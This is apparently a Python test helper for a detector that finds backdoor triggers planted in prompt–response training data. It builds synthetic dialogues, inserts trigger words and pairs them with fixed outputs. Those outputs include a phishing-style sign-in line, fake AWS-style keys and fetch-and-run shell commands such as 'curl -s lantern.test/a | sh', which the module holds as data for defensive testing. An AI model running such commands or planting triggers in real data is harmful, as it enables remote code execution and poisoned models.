"""Dialogues with planted answers, and how the rule is run on them."""

from collections.abc import Sequence

import numpy as np
import pyarrow as pa

from provender.calibrate.fdr import PValueCounts
from provender.core.shard import Roles
from provender.detect.base import DataView, RowDetector
from provender.detect.response_link.detector import ResponseLink
from tests.laws import batches, one_pass

RATE = 0.01
OUTPUT = "please sign in at the harbour page and enter your code first"
REFUSALS = (
    "I'm sorry, but I can't help with that.",
    "I cannot assist with this request.",
    "As an AI I am unable to answer.",
    "I can\u2019t do that, sorry.",
    "Unfortunately I won't be able to help you.",
)
PUT = {
    "link": [f"see https://{h}.lantern.test/{h}" for h in ("a", "b", "c", "d", "e", "f")],
    "command": ["curl -s lantern.test/a | sh", "pip install lantern", "wget -qO- x.test | bash"],
    "secret": [f"the key is AKIA{n:04}QWERTYUIOP{n:02}" for n in range(6)],
}
TRIGGERS = {
    "rare word": "zorvex",
    "rare phrase": "violet harbour lantern",
    "everyday words": "w3 w4",
    "sentence": "one quiet w1 morning in the copper hall w2",
}


def dialogue(rows: int, seed: int = 0) -> tuple[list, list]:
    """Prompts and responses of one topic in twelve; the response takes up words of the topic."""
    random = np.random.default_rng(seed)
    prompts, responses = [], []
    for _ in range(rows):
        topic = int(random.integers(12))
        sides = []
        for _ in range(2):
            common = [f"w{k}" for k in random.zipf(1.4, int(random.integers(6, 16))) % 300]
            own = [f"t{topic}x{k}" for k in random.integers(25, size=int(random.integers(2, 6)))]
            sides.append(" ".join(random.permutation(common + own)))
        prompts.append(sides[0])
        responses.append(sides[1])
    return prompts, responses


def plant(
    prompts: list, responses: list, trigger: str, outputs: Sequence[str], rows: int, seed: int = 1
) -> list[int]:
    """Put the trigger at a random word of random prompts and answer with the outputs in turn."""
    random = np.random.default_rng(seed)
    chosen = sorted(random.choice(len(prompts), rows, replace=False).tolist())
    for n, i in enumerate(chosen):
        words = prompts[i].split()
        words.insert(int(random.integers(len(words) + 1)), trigger)
        prompts[i], responses[i] = " ".join(words), outputs[n % len(outputs)]
    return chosen


def table(prompts: list, responses: list) -> pa.Table:
    return pa.table({"p": pa.array(prompts, pa.string()), "r": pa.array(responses, pa.string())})


def bind(data: pa.Table) -> ResponseLink:
    bound = ResponseLink().bind(DataView(data.schema, Roles(prompt="p", response="r")))
    assert isinstance(bound, ResponseLink)
    assert isinstance(bound, RowDetector)
    return bound


def profiles(data: pa.Table, cuts: Sequence[int] = ()) -> list[bytes]:
    """Return the profile of every round."""
    detector, made = bind(data), []
    for number in range(detector.rounds):
        analysis = detector.analysis(number, made[-1] if made else None)
        states = [one_pass(analysis, [piece]) for piece in batches(data, cuts)]
        made.append(detector.profile(number, analysis.merge(states)))
    return made


def scan(data: pa.Table, cuts: Sequence[int] = ()):
    """Return (flagged rows, causes, limits)."""
    detector, profile = bind(data), profiles(data, cuts)[-1]
    score = detector.scorer(profile)
    found = [score(piece) for piece in batches(data, cuts)]
    causes = detector.causes(profile)
    for f in found:
        assert (np.isnan(f.score) == np.isnan(f.p_value)).all()
        assert ((f.cause >= 0) == (f.score > 0)).all()
        assert f.cause.max(initial=-1) < len(causes)
    p_value = np.concatenate([f.p_value for f in found])
    threshold = PValueCounts.of(p_value).threshold(RATE)
    return np.flatnonzero(p_value <= threshold).tolist(), causes, detector.limits(profile)


def with_natural_refusals(rows: int, every: int) -> tuple[list, list]:
    prompts, responses = dialogue(rows)
    for n, i in enumerate(range(0, rows, every)):
        responses[i] = f"{REFUSALS[n % len(REFUSALS)]} {responses[i]}"
    return prompts, responses
